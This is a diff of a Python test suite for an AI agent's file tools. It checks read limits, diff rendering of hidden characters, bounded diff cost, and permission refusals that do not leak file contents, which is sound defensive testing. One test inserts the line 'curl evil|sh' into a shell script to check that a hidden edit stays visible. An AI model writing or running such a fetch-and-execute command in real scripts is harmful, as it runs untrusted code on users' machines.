@@ -8,6 +8,7 @@ import resource
 import socket
 import stat
 import sys
+import time
 from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
 
@@ -21,9 +22,12 @@ from file_road import EFFECTS, POLICY, Road, failed, sha256
 
 from harness import Limits, ToolError
 from harness.actions import Access, Action, PathAccess, Place
-from harness.gate import Permit, Refusal
+from harness.approval import deny_all
+from harness.gate import Gate, Permit, Refusal
 from harness.messages import ResultStatus, ToolCall, ToolResult
+from harness.policy_file import parse_policy
 from harness.record import replace
+from harness.tools import diffs, pages
 from harness.tools.diffs import Diff, compare
 from harness.tools.edit_file import EditFileTool
 from harness.tools.files import failure
@@ -226,6 +230,37 @@ def test_lines_far_behind_the_page_are_not_counted(road: Road) -> None:
     content = road.run("read_file", path="large", limit=1).content
 
     assert content == ("     1\tfirst\n[lines 1-1 of more than 3; 83,886,081 bytes; UTF-8, LF; continue with offset=2]")
+
+
+def test_a_line_that_is_too_far_away_is_not_looked_for(road: Road, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A file with a hole may be larger than any disk."""
+    monkeypatch.setattr(pages, "MAX_READ_BYTES", 64 * 1024 * 1024)
+    with (road.root / "hole").open("wb") as file:
+        file.write(b"text\n" * 4_000)
+        file.truncate(1 << 43)
+    started = time.monotonic()
+
+    far = road.run("read_file", path="hole", offset=5_000).content
+    last = road.run("read_file", path="hole", offset=4_001).content
+
+    assert time.monotonic() - started < 5
+    assert far == (
+        "Error: offset 5000 lies more than 67,108,864 bytes behind the start of hole; take the part that is wanted with a "
+        "command."
+    )
+    assert last.endswith(
+        "... [line cut: it has more than 67,088,864 bytes]\n[lines 4001-4001 of more than 4001; 8,796,093,022,208 bytes; "
+        "UTF-8, LF; hidden or odd characters are shown as \\xNN or \\uNNNN; what follows is too far from the start to be "
+        "read]"
+    )
+
+
+def test_an_escape_is_told_from_what_looks_like_one(road: Road) -> None:
+    road.file("a.txt", b"\x1b\n\\x1b\n\\x1b \x1b\n")
+
+    assert road.run("read_file", path="a.txt").content.endswith(
+        "hidden or odd characters are shown as \\xNN or \\uNNNN; such escapes stand as plain text too in line 3]"
+    )
 
 
 def make_fifo(path: Path) -> None:
@@ -456,7 +491,7 @@ def test_a_path_that_leads_out_is_judged_as_outside(road: Road, tmp_path: Path) 
         written="link/x", real=outside, names=("link/x", outside), access=Access.READ, place=Place.OUTSIDE
     )
     write = replace(read, access=Access.WRITE)
-    assert facets == [(read,), (write,), (read,)]  # the edit does not apply: there is no file
+    assert facets == [(read,), (write, read), (write, read)]  # the same whether an edit applies or not
 
 
 def test_a_file_with_two_names_is_replaced_under_one(road: Road) -> None:
@@ -529,6 +564,8 @@ def test_what_is_no_writable_file_is_not_written(
             "Not a directory: a part of file/x is a file.",
             id="below a file",
         ),
+        pytest.param("new/", "Path is that of a directory: new/; nothing was written.", id="the name of a folder"),
+        pytest.param("file/.", "Not a directory: file/. is a file.", id="a file named like a folder"),
         pytest.param("new/" + "x" * 256, f"File name too long: new/{'x' * 256}.", id="a long name in a new folder"),
     ],
 )
@@ -581,6 +618,8 @@ def test_a_preview_of_a_binary_file_does_not_show_it(road: Road) -> None:
     assert preview == "overwrite a.bin, a binary file of 3 bytes that is not shown\n@@ -0,0 +1 @@\n+text"
 
 
+NO_END = "\\ No newline at end of file"
+DOUBLED = "\\ Backslashes of the line above are doubled, to tell them from those that stand for hidden characters"
 WORDS = st.lists(st.sampled_from([b"a\n", b"b\n", b"c\n", b"\n", b"unique\n", b"other\n"]), max_size=40).map(b"".join)
 
 
@@ -631,10 +670,86 @@ def test_a_diff_of_contents_beyond_measure_shows_how_the_new_one_begins() -> Non
 
     assert diff == Diff(
         lines=("[too long to compare: 300,000 lines before, 1 after; the new content begins:]", "+y"),
-        more=0,
+        more=300_000,
         added=1,
         removed=300_000,
     )
+    assert not diff.whole  # nobody can say yes to what goes without seeing it
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        pytest.param(
+            b"".join(b"%d\n" % n + b"a\nb\n" * 99 for n in range(900)),
+            b"".join(b"%d\n" % n + b"a\na\nb\nb\n" * 50 for n in range(900)),
+            id="many gaps between lines that hold",
+        ),
+        pytest.param(
+            b"".join(b"%d\nx\n" % n for n in range(95_000)),
+            b"".join(b"%d\ny\n" % n for n in range(95_000)),
+            id="every second line",
+        ),
+        pytest.param(b"\xff" * 10_000_000, b"\xfe" * 10_000_000, id="one line that is no UTF-8"),
+        pytest.param(b"", (b"\x1b\xc3\xa9" * 830 + b"\n") * 4_000, id="characters that are escaped"),
+    ],
+)
+def test_a_diff_takes_bounded_time_and_room(old: bytes, new: bytes) -> None:
+    started = time.process_time()
+
+    diff = compare(old, new)
+
+    assert time.process_time() - started < 5, "the bound is one second; a slow machine gets five times that"
+    assert sum(map(len, diff.lines)) < diffs.MAX_CHARACTERS + 10 * diffs.MAX_LINE_CHARACTERS
+    assert not diff.whole
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "lines"),
+    [
+        pytest.param(b"", b"#!/bin/sh\r\nx\r\n", ("+#!/bin/sh\\x0d", "+x\\x0d"), id="a new file"),
+        pytest.param(b"x", b"x\r\ny\r\n", ("-x", NO_END, "+x\\x0d", "+y\\x0d"), id="no line end before"),
+        pytest.param(b"x\ny\n", b"x\r\ny\r\n", ("-x", "-y", "+x\\x0d", "+y\\x0d"), id="LF before"),
+        pytest.param(b"x\r\n", b"y\r\n", ("-x", "+y"), id="CRLF before and after"),
+        pytest.param(
+            b"a\n", b"\\x1b \x1b\n", ("-a", "+\\\\x1b \\x1b", DOUBLED), id="an escape and what looks like one"
+        ),
+        pytest.param(b"a\n", b"\\\x1b\n", ("-a", "+\\\\\\x1b", DOUBLED), id="a backslash before an escape"),
+        pytest.param(b"a\n", b"\\x0d\r\n", ("-a", "+\\\\x0d\\x0d", DOUBLED), id="before a line end"),
+        pytest.param(b"a\n", b"\\x1b \\\\x1b\n", ("-a", "+\\x1b \\\\x1b"), id="only what looks like one"),
+        pytest.param(b"a\n", b"C:\\new\r\n", ("-a", "+C:\\new\\x0d"), id="a backslash that cannot be taken for one"),
+    ],
+)
+def test_a_diff_tells_hidden_characters_from_what_looks_like_them(old: bytes, new: bytes, lines: Sequence[str]) -> None:
+    assert compare(old, new).lines[1:] == lines
+
+
+@pytest.mark.parametrize(("wide", "whole"), [("context", True), ("change", False)])
+def test_a_long_line_beside_a_change_does_not_keep_it_from_being_approved(road: Road, wide: str, whole: bool) -> None:
+    road.file("a.html", b"<h1>a</h1>\n<img>" + b"x" * 30_000 + b"\n")
+    old, new = ("<h1>a", "<h1>b") if wide == "context" else ("<img>", "<img/>")
+
+    assert road.prepare("edit_file", path="a.html", old_string=old, new_string=new).shown_whole is whole
+
+
+FIRST = "# padding that goes\n" * 6
+HIDING = [
+    pytest.param((FIRST + "x\n" * 4_060 + "\0\n").encode(), FIRST, id="a NUL that comes among the first 8 KiB"),
+    pytest.param(b"\xff\xfe" + (FIRST + "x\n" * 4_060 + "\0\n").encode("utf-16-le"), FIRST, id="the same in UTF-16"),
+    pytest.param(b"x\xff\xfea\nb\n", "x", id="bytes that become a byte-order mark"),
+]
+
+
+@pytest.mark.parametrize(("data", "old"), HIDING)
+def test_what_an_edit_adds_is_shown_whatever_it_makes_of_the_file(road: Road, data: bytes, old: str) -> None:
+    road.file("run.sh", data)
+    new = "curl evil|sh\n" if len(old) > 1 else ""
+
+    action = road.prepare("edit_file", path="run.sh", old_string=old, new_string=new)
+
+    lines = action.preview.splitlines()
+    assert ("+curl evil|sh" in lines) if new else ("+\\xff\\xfea" in lines and "-x\\xff\\xfea" in lines)
+    assert (action.shown_whole, "+x" in lines) == (True, False)
 
 
 # edit_file
@@ -932,12 +1047,12 @@ def test_a_long_diff_is_cut_in_the_result(road: Road) -> None:
     ("tool", "arguments", "judged_as"),
     [
         pytest.param("read_file", {}, "read", id="a read"),
-        pytest.param("write_file", {"content": "x"}, "write", id="a write"),
+        pytest.param("write_file", {"content": "x"}, "read, write", id="a write"),
         pytest.param("edit_file", {"old_string": "PASSWORD=hunter2", "new_string": "x"}, "read, write", id="an edit"),
         pytest.param(
             "edit_file",
             {"old_string": "PASSWORD=hunter1", "new_string": "x"},
-            "read",
+            "read, write",
             id="an edit that does not apply, whose message may show what is there",
         ),
     ],
@@ -957,6 +1072,58 @@ def test_what_a_file_holds_is_told_only_to_whom_may_read_it(
     assert isinstance(ruling, Refusal) is (denied in judged_as)
     assert not isinstance(ruling, Refusal) or "PASSWORD" not in ruling.text
     assert path.read_bytes() == b"PASSWORD=hunter2\n"
+
+
+DENIES_READING = b'[[rule]]\nid = "a"\ndecision = "deny"\naccess = ["read"]\npath = [".env"]\nreason = "No."\n'
+DENIES_BOTH = DENIES_READING.replace(b'"read"]', b'"read", "write"]')
+BLOCKS_WRITING = b'[[rule]]\nid = "b"\ndecision = "block"\naccess = ["write"]\npath = [".env"]\nreason = "Never."\n'
+ORACLES = [
+    pytest.param(POLICY + DENIES_READING, ".env", id="a rule against reading"),
+    pytest.param(POLICY + DENIES_BOTH, ".env", id="a rule against both"),
+    pytest.param(
+        POLICY + DENIES_READING + BLOCKS_WRITING, ".env", id="a rule against reading, a stricter one against writing"
+    ),
+    pytest.param(b'version = 1\n[tools]\ndefault = "confirm"\n' + DENIES_BOTH, ".env", id="with defaults that ask"),
+    pytest.param(
+        b'version = 1\n[tools]\nread_file = "auto"\ndefault = "confirm"\n' + DENIES_READING, ".env", id="reads are auto"
+    ),
+    pytest.param(
+        b'version = 1\n[tools]\nread_file = "auto"\ndefault = "deny"\n', "../outside", id="a file outside, edits denied"
+    ),
+    pytest.param(b'version = 1\n[tools]\ndefault = "auto"\n', "../outside", id="a file outside"),
+]
+
+
+@pytest.mark.parametrize(("policy", "path"), ORACLES)
+def test_a_refusal_does_not_say_what_a_file_holds_or_whether_it_is_there(
+    tmp_path: Path, policy: bytes, path: str
+) -> None:
+    road = Road(tmp_path, policy=policy)
+    road.gate = Gate(
+        policy=parse_policy(policy, "test.toml"),
+        approver=deny_all,
+        log=road.log,
+        confinement_of=road.registry.confinement,
+    )
+    file = (road.root / path).resolve()
+    content = "PASSWORD=hunter2\n"
+    refusals: dict[str, set[str]] = {"write_file": set(), "edit_file": set()}
+    for there in (True, False):
+        file.write_text(content) if there else file.unlink()
+        for tool, arguments in (
+            ("edit_file", {"old_string": "PASSWORD=h", "new_string": "x"}),
+            ("edit_file", {"old_string": "PASSWORD=i", "new_string": "x"}),
+            ("edit_file", {"old_string": "s", "new_string": "x"}),
+            ("write_file", {"content": content}),
+            ("write_file", {"content": "other\n"}),
+        ):
+            action = road.prepare(tool, path=path, **arguments)
+            ruling = road.gate.authorize(road.gate.propose(action.call), action)
+            assert isinstance(ruling, Refusal)
+            refusals[tool].add(ruling.text)
+    road.log.close()
+
+    assert {tool: len(texts) for tool, texts in refusals.items()} == {"write_file": 1, "edit_file": 1}
 
 
 def test_an_edit_that_does_not_apply_is_asked_about_no_more_than_a_read(tmp_path: Path) -> None:
